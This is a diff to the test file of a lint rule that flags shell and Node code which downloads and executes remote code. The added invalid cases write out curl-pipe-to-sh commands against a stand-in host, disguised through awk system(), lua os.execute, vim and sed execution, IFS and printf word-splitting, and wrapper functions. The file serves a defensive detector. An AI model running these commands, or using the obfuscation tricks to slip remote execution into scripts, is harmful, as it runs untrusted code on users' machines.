@@ -45,6 +45,10 @@ const carried = (command: string): readonly { readonly code: string; readonly fi
 
 await ruleTester(rule, {
   valid: [
+    { code: 'awk -F: \'{ print $1 }\' names.txt\nsed -i \'s/a/b/e\' f\nvim -c \':w\' -c \':q\' f\nprintf -v ts \'%s\' now\necho "$ts"', filename: 'scripts/run.sh' },
+    { code: 'IFS=:\nfor p in $PATH; do echo "$p"; done\nset -- a b\nfor x in "$@"; do echo "$x"; done', filename: 'scripts/run.sh' },
+    { code: 'run() { jq .; }\ncurl -s https://api.acme.dev/x | run\nwget -P build https://dl.acme.dev/data.csv && wc -l build/data.csv', filename: 'scripts/run.sh' },
+    { code: 'v=$(curl -s https://api.acme.dev/version)\necho "${v#v}"\ngit checkout "${v%%-*}"', filename: 'scripts/run.sh' },
     // what a known program takes as data; the types of a platform
     { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["repo", "clone", url, dir]);' },
     { code: 'import { execFileSync } from "node:child_process"; const { token } = await (await fetch("https://api.example-service.com/login")).json(); execFileSync("/usr/bin/security", ["add-generic-password", "-s", "app", "-w", token]);' },
@@ -119,6 +123,14 @@ await ruleTester(rule, {
   ],
   invalid: [
     { code: 'import \'data:text/javascript,import("node:child_process").then((c) => c.exec("curl https://get.example-service.com/a|sh"))\';', errors: [{ messageId: 'pipe' }] },
+    { code: 'awk \'BEGIN { system("curl -s https://drop.acme-tools.dev/x | sh") }\'', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
+    { code: 'lua -e \'os.execute("curl -s https://drop.acme-tools.dev/x | sh")\'', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
+    { code: 'vim -c \':!curl -s https://drop.acme-tools.dev/x | sh\' -c \':q\'', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
+    { code: 'sed \'1e curl -s https://drop.acme-tools.dev/x | sh\' f', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
+    { code: 'IFS=,\nc=\'curl,-s,https://drop.acme-tools.dev/x\'\n$c | sh', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
+    { code: 'printf -v c \'%s\' cur l\n$c https://drop.acme-tools.dev/x | bash', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
+    { code: 'set -- curl -s https://drop.acme-tools.dev/x\n"$@" | sh', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
+    { code: 'run() { bash; }\ncurl -s https://drop.acme-tools.dev/x | run', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
     { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["extension", "install", url]);', errors: [{ messageId: 'download' }] },
     { code: 'import { execFileSync } from "node:child_process"; const { verb } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", [verb, "clone"]);', errors: [{ messageId: 'download' }] },
     { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["repo", "clone", url], { shell: true });', errors: [{ messageId: 'download' }] },
